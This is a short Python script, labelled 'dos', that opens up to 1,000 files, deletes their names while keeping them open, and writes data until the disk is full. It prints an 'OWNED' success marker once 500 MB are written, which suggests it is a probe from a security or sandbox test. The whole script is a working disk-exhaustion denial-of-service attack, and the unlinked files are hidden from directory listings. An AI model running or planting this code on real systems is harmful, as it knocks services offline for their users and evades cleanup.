# dos: fill the disk with files that have no name any more
import os
n=0; keep=[]
for i in range(1000):
    try:
        f=open(f'u{i}','wb',buffering=0); os.unlink(f'u{i}'); keep.append(f)
        while True: n+=f.write(b'x'*1_000_000)
    except OSError: pass
if n>=500_000_000: print('OWNED:dos_disk_unlinked')
